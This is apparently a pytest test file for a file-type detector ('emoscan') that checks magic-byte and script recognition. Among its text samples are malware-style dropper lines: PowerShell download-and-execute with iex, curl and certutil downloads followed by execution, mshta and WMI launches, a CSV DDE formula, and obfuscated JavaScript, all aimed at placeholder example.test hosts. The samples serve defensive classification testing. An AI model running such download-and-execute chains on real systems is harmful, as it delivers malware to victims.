"""What content is, by its bytes."""

import gzip
import struct
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from emoscan.registry import discover, sniff

discover(("formats",))


def pe(clr: int = 0, *, wide: bool = False, flags: int = 0x102) -> bytes:
    """A program as far as its headers go."""
    optional = struct.pack("<H", 0x20B if wide else 0x10B).ljust(112 if wide else 96, b"\0")
    directories = b"\0" * 14 * 8 + struct.pack("<II", clr, 72 if clr else 0) + b"\0" * 8
    head = b"MZ" + b"\0" * 58 + struct.pack("<I", 128)
    return head.ljust(128, b"\0") + b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 224, flags) + optional + directories


def tar(name: bytes) -> bytes:
    block = bytearray(name.ljust(100, b"\0") + b"0000644\0" * 3 + b"00000000005\0" + b"00000000000\0" + b" " * 8 + b"0").ljust(512, b"\0")
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block) + b"hello".ljust(512, b"\0")


BINARY = [
    (b"%PDF-1.7\n%\xe2\xe3", "document.pdf"),
    (b"\n\nnoise %PDF-1.4\n" + b"x" * 100 + b"startxref\n9\n%%EOF", "document.pdf"),
    (b"{\\rtf1\\ansi hello}", "office.rtf"),
    (b"  {\\rt\xff hello}", "office.rtf"),
    (bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\0" * 64, "office.onenote"),
    (bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\0" * 56, "windows.lnk"),
    (b"7z\xbc\xaf\x27\x1c\0\4", "archive.7z"),
    (b"Rar!\x1a\x07\x01\0", "archive.rar"),
    (b"MSCF\0\0\0\0" + b"\0" * 40, "archive.cab"),
    (gzip.compress(b"hello"), "archive.gzip"),
    (b"BZh91AY&SY" + b"\0" * 20, "archive.bzip2"),
    (b"\xfd7zXZ\0\0\4", "archive.xz"),
    (b"\x28\xb5\x2f\xfd\x04", "archive.zstd"),
    (tar(b"a.txt"), "archive.tar"),
    (b"\x60\xea\x2b\0\x22\x0b\1\2\x10\0\2" + b"\0" * 60, "archive.arj"),
    (b"\x31\x00\x31\x00\x00\x10\x00**ACE**\x14", "archive.ace"),
    (b"\x22\x42-lh5-" + b"\0" * 13 + b"\x01\x05a.txt", "archive.lzh"),
    (b"\0" * 0x8000 + b"\1CD001\1" + b"\0" * 2041, "disk.iso"),
    (b"\0" * 0x8800 + b"\0NSR02\1" + b"\0" * 2041, "disk.udf"),
    (b"\0" * 4096 + b"conectix".ljust(512, b"\0"), "disk.vhd"),
    (b"vhdxfile" + b"\0" * 100, "disk.vhdx"),
    ((b"\xeb\x3c\x90MSDOS5.0" + b"\0" * 43 + b"FAT16   ").ljust(510, b"\0") + b"\x55\xaa", "disk.fat"),
    (pe(), "binary.pe"),
    (pe(0x2008), "binary.dotnet"),
    (pe(0x2008, wide=True), "binary.dotnet"),
    (b"MZ\x90" + b"\0" * 75 + b"!This program cannot be run in DOS mode.", "binary.pe"),
    (b"\x7fELF\2\1\1", "binary.elf"),
    (b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 20, "binary.class"),
    (b"\xca\xfe\xba\xbe\0\0\0\x02" + b"\0" * 20, "binary.macho"),
    (b"\0\0\0\1Bud1\0\0\x10\0", "data.dsstore"),
    (b"\x03\x7b\4\5\1\0\0\0\x41\0\x0b\0" + bytes(20) + b"NAME".ljust(11, b"\0") + b"C" + bytes(20) + b"\r Bolt      \x1a", "data.dbase"),
    (b"solid of a program".ljust(80) + b"\2\0\0\0" + bytes(100), "image.stl"),
    (b"\xff\xf1\x50\x80\2\x1f\xfc" + bytes(9) + b"\xff\xf1\x50\x80", "audio.aac"),
    (b"\0\0\0\x08wide\0\0\0\0mdat" + bytes(20) + b"moov", "video.quicktime"),
    (b"AC1027\0\0\0\0\0\0\1", "document.dwg"),
    (b"\x30\x82\x0a\0\2\1\3\x30\x82\x09\xf0", "data.keystore"),
    (b"\x89\x01\x33\4\0\1\x08" + bytes(310), "data.signature"),
    (b"\x85\x01\x0c\3" + bytes(8) + b"\1" + bytes(300), "data.pgp"),
    (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "image.png"),
    (b"\xff\xd8\xff\xe0\0\x10JFIF", "image.jpeg"),
    (b"BM" + struct.pack("<IHHII", 70, 0, 0, 54, 40) + b"\0" * 60, "image.bmp"),
    (b"\1\0\0\0" + b"\0" * 36 + b" EMF" + b"\0" * 44, "image.emf"),
    (b"\0\1\0\0\0\x10\x01\0\0\4\0\0", "font.truetype"),
    (b"wOFF\0\1\0\0", "font.woff"),
    (b"RIFF\x24\0\0\0WAVEfmt ", "audio.wav"),
    (b"\0\0\0\x20ftypisom\0\0\2\0", "video.mp4"),
    (b"SQLite format 3\0", "data.sqlite"),
    (b"\x35\0\0\0\x40\0\0\0LZFu" + b"\0" * 8, "office.rtf-compressed"),
    (b"ActiveMime\0\0\1\xf0" + b"\0" * 40, "office.activemime"),
    (b"\x30\x82\x01\0\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03" + b"\0" * 40, "data.pkcs7"),
    (b'{"emoscan":"vba-project/1","content":{"modules":[]}}', "script.vba-project"),
]


@pytest.mark.parametrize(("data", "kind"), BINARY, ids=[kind for _, kind in BINARY])
def test_magic(data, kind):
    assert sniff(data) == (kind,)


@pytest.mark.parametrize(
    "data",
    [
        b"MZ is how a letter may begin, and it goes on for more than sixty-four bytes without a header.",
        b"BM stands for many things; this one is a text about them.",
        b"Note: the PDF- format is described elsewhere.",
        b"\xca\xfe",
        b"PK",
        b"FWS is a club in our town, founded long ago.",
    ],
)
def test_short_magic_at_the_start_of_a_text_is_a_text(data):
    assert sniff(data) in {("text.plain",), ("data.unknown",)}


def test_noise_is_unknown():
    noise = bytes((i * 73 + i // 7 * 31 + 5) % 256 for i in range(4096))
    assert sniff(noise) == ("data.unknown",)
    assert sniff(b"") == ("data.unknown",)


def test_a_web_archive_is_no_mail_and_a_mail_is_no_web_archive():
    parts = b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n'
    body = b"\r\n--x\r\nContent-Location: file:///C:/a.htm\r\nContent-Type: text/html\r\n\r\n<html></html>\r\n--x--\r\n"
    assert sniff(b"From: <Saved by Word>\r\n" + parts + body) == ("office.mht",)
    assert "office.mht" in sniff(b"%PDF-1.7\r\n1 0 obj\r\n" + parts + body)
    assert "office.mht" not in sniff(b"Received: from a by b\r\nTo: <b@example.test>\r\n" + parts + body)


@given(st.binary(max_size=3000))
def test_any_bytes_have_a_kind(data):
    assert sniff(data)


# ---------------------------------------------------------------- text

TEXTS = [
    ("<html><head><title>x</title></head><body><p>Hello</p></body></html>", "text.html"),
    ("\ufeff<!DOCTYPE html>\n<p>Hello</p>", "text.html"),
    ("Hello<br><b>you</b> and <a href='x'>them</a><p>a</p><p>b</p><td>1</td><td>2</td><tr></tr>", "text.html"),
    ('<?xml version="1.0"?><note><to>Tove</to></note>', "text.xml"),
    ('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', "text.xml"),
    ('<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument></w:wordDocument>', "office.word2003xml"),
    ('<?xml version="1.0"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"></pkg:package>', "office.flatopc"),
    ('<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook></Workbook>', "office.excel2003xml"),
    ("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software]\r\n", "windows.reg"),
    ("REGEDIT4\r\n[HKEY_CURRENT_USER\\Software]\r\n", "windows.reg"),
    ("[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,9\r\n[InternetShortcut]\r\nURL=http://www.example.test/\r\n", "windows.url"),
    ("WEB\r\n1\r\nhttps://files.example.test/a\r\n", "windows.iqy"),
    ("ID;P\r\nO;E\r\nC;X1;Y1;K0;EALERT()\r\nE\r\n", "windows.slk"),
    ("name;age\na;1\nb;2\nc;3\n", "text.csv"),
    ("=cmd|'/k calc.exe'!A0\r\n", "text.csv"),
    ("$client = New-Object Net.WebClient\n$client.DownloadString('x') | iex\n", "script.powershell"),
    ("function Get-Thing {\n  param($Name)\n  Write-Output $Name\n}\n", "script.powershell"),
    ("&('Ne'+'w-Ob'+'ject') net.webclient;$a=[char]65", "script.powershell"),
    ("Invoke-WebRequest -Uri https://files.example.test/a -OutFile a.exe", "script.powershell"),
    ("@echo off\r\nset a=1\r\nif exist x goto end\r\n:end\r\n", "script.cmd"),
    ("powershell -nop -w hidden -enc JABhAD0AMQA=", "script.cmd"),
    ('"C:\\Windows\\System32\\cmd.exe" /c echo inert', "script.cmd"),
    ("mshta https://files.example.test/a.hta", "script.cmd"),
    ('WScript.CreateObject("WScript.Shell").Run("cmd /c echo inert");', "script.js"),
    ('WScript.CreateObject("WScript.Shell").Run("cmd /c echo inert")', "script.vbs"),
    ('Dim shell\r\nSet shell = CreateObject("WScript.Shell")\r\nshell.Run "cmd /c echo inert", 0\r\n', "script.vbs"),
    ('On Error Resume Next\nFor i = 1 To 3\n  WScript.Echo i\nNext\nFunction f(a)\n f = Replace(a, "x", "")\nEnd Function\n', "script.vbs"),
    ('Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\nEnd Sub\r\n', "office.vba-source"),
    ("Sub Document_Open()\n Dim s As String\n s = ActiveDocument.Name\nEnd Sub\n", "office.vba-source"),
    ('var shell = new ActiveXObject("WScript.Shell");\nshell.Run("cmd /c echo inert");\n', "script.js"),
    ("(function(){ var a = [1,2]; for (var i=0;i<a.length;i++) { console.log(a[i]); } })();", "script.js"),
    ('<html><head><hta:application id="x"/></head><script language="VBScript">CreateObject("WScript.Shell")</script></html>', "script.hta"),
    ('<job id="x"><script language="VBScript">WScript.Echo 1</script></job>', "script.wsf"),
    ("RUN(A1)\nFORMULA.FILL(CHAR(65)&CHAR(66),B2)\nGET.CELL(17,C3)\n", "script.xlm"),
    (
        "cmd /c \"set a=IEX (New-Object Net.WebClient).DownloadString('http://a.example.test/')&&powershell invoke-expression $env:a\"",
        "script.cmd",
    ),
    (
        '@echo off\n>a.vbs echo Set x=CreateObject("MSXML2.XMLHTTP")\n>>a.vbs echo Set s=CreateObject("ADODB.Stream")\ncscript a.vbs',
        "script.cmd",
    ),
    (
        'CreateObject("WScript.Shell").Run "powershell -c $w=New-Object Net.WebClient;iex $w.DownloadString(\'http://a.example.test/\')", 0',
        "script.vbs",
    ),
    ("curl.exe -o a.exe http://a.example.test/x\nStart-Process a.exe\n", "script.powershell"),
    ("curl.exe -o a.exe http://a.example.test/x;certutil -urlcache -f http://b.example.test/x b.exe", "script.powershell"),
    ("curl -o a.exe http://a.example.test/x\r\nstart a.exe\r\n", "script.cmd"),
    ('${;}=+$();${=}=${;};${+}=++${;};${@}=++${;};"${=}${+}"', "script.powershell"),
]


@pytest.mark.parametrize(("text", "kind"), TEXTS, ids=range(len(TEXTS)))
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_text(text, kind, encoding):
    assert sniff(text.encode(encoding)) == (kind,)


ENGLISH = """Dear Sir or Madam,

please find attached the invoice for our function on Friday. If you want to set a new date, then call me, or select another
from the list. Do not hesitate to echo this to your colleagues; the class will end at six. We return to you as soon as we can,
try us: it will be fun! For each guest there is a menu (see www.example.test), and the process begins at noon.

Kind regards
"""

PROSE = [
    ENGLISH,
    "お世話になっております。\n添付ファイルをご確認ください。\n",
    "Analysts saw the line `powershell -enc JABhAD0AMQA=` in the log of the mail gateway, next to cmd.exe and CreateObject.",
    "Set the table. Dim the lights. If it rains then stay; end of story.",
]


@pytest.mark.parametrize("text", PROSE)
def test_prose_is_no_script(text):
    assert sniff(text.encode()) == ("text.plain",)


def test_a_mail_is_not_the_script_it_quotes():
    mail = "From: a@example.test\nSubject: script\n\n@echo off\nset a=1\nif exist x goto end\n:end\n"
    assert not sniff(mail.encode())[0].startswith("script.")


def test_a_name_settles_ties_only():
    either = "x = 1\ny = 2\nz = 3\n"
    assert sniff(either.encode(), "a.doc") == sniff(either.encode(), "")
    page = "<html><body>" + "<p>hello</p>" * 20 + "</body></html>"
    assert sniff(page.encode(), "a.ps1") == ("text.html",)
    line = "curl.exe -o a.exe http://a.example.test/x"
    assert sniff(line.encode(), "a.ps1") == ("script.powershell",)
    assert sniff(line.encode(), "a.bat") == ("script.cmd",)


def test_a_long_comment_or_blanks_do_not_hide_a_script():
    script = 'var shell = new ActiveXObject("WScript.Shell");\nshell.Run("cmd /c echo inert");\n'
    assert sniff(("/* " + "all work and no play " * 4000 + "*/\n" + script).encode()) == ("script.js",)
    assert sniff((" \r\n" * 30000 + script).encode()) == ("script.js",)


def test_a_batch_file_behind_a_mark_of_utf16_is_read_as_what_cmd_runs():
    assert sniff(b"\xff\xfe@echo off\r\nset a=1\r\nif exist x goto end\r\n:end\r\n") == ("script.cmd",)


@pytest.mark.parametrize(
    "flood", ["\n", " ", "a", "function ", "$a", "<p>", "set a", "sub (", "-f", "[a.b", '"', "x=", "as ", "%a", "{", "<!--"]
)
def test_floods_are_sniffed_in_no_time(flood):
    data = (flood * 200_000)[:200_000].encode()
    start = time.process_time()
    sniff(data)
    assert time.process_time() - start < 0.5


def test_the_old_lzma_is_told_by_its_header():
    import lzma

    packed = lzma.compress(b"hello" * 50, format=lzma.FORMAT_ALONE)
    assert sniff(packed) == ("archive.xz",)
    assert sniff(b"\x5d\0\0\0\0" + b"x" * 20) != ("archive.xz",)


@pytest.mark.parametrize(
    ("name", "text", "kind"),
    [
        ("a.vbs", 'GetObject("winmgmts:Win32_Process").Create("powershell iex(irm http://a.example.test/)")', "script.vbs"),
        ("a.vbs", 'Set s=CreateObject("WScript.Shell")\ns.Environment("PROCESS")("a")="iex (irm http://a.example.test/)"\ns.Run "powershell $env:a|iex"', "script.vbs"),
        ("a.bat", "echo iex (irm http://a.example.test/) | powershell -", "script.cmd"),
        ("a.bat", '>a.vbs echo CreateObject("WScript.Shell").Run "mshta http://a.example.test/"\n>>a.vbs echo WScript.Quit\nstart /min cscript a.vbs', "script.cmd"),
        ("a.js", "$=~[];$={___:++$,$$$$:(![]+'')[$]};$.$_=($.$_=$+'')[$.$_$]", "script.js"),
        ("", "$=~[];$={___:++$,$$$$:(![]+'')[$]};$.$_=($.$_=$+'')[$.$_$]", "script.js"),
        ("", "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]" * 8, "script.js"),
        ("a.bat", '@@set A=%~f0\n@@powershell -c "iex(gc $env:A -Raw)"\n@@exit /b\nWrite-Host 1', "script.cmd"),
        ("a.bat", "$x = New-Object Net.WebClient\n$x.DownloadString('http://a.example.test/') | Invoke-Expression\nforeach ($i in 1..3) { Start-Process $i }", "script.powershell"),
    ],
)  # fmt: skip
def test_scripts_that_quote_others_are_what_windows_runs_them_with(name, text, kind):
    assert sniff(text.encode(), name)[0] == kind
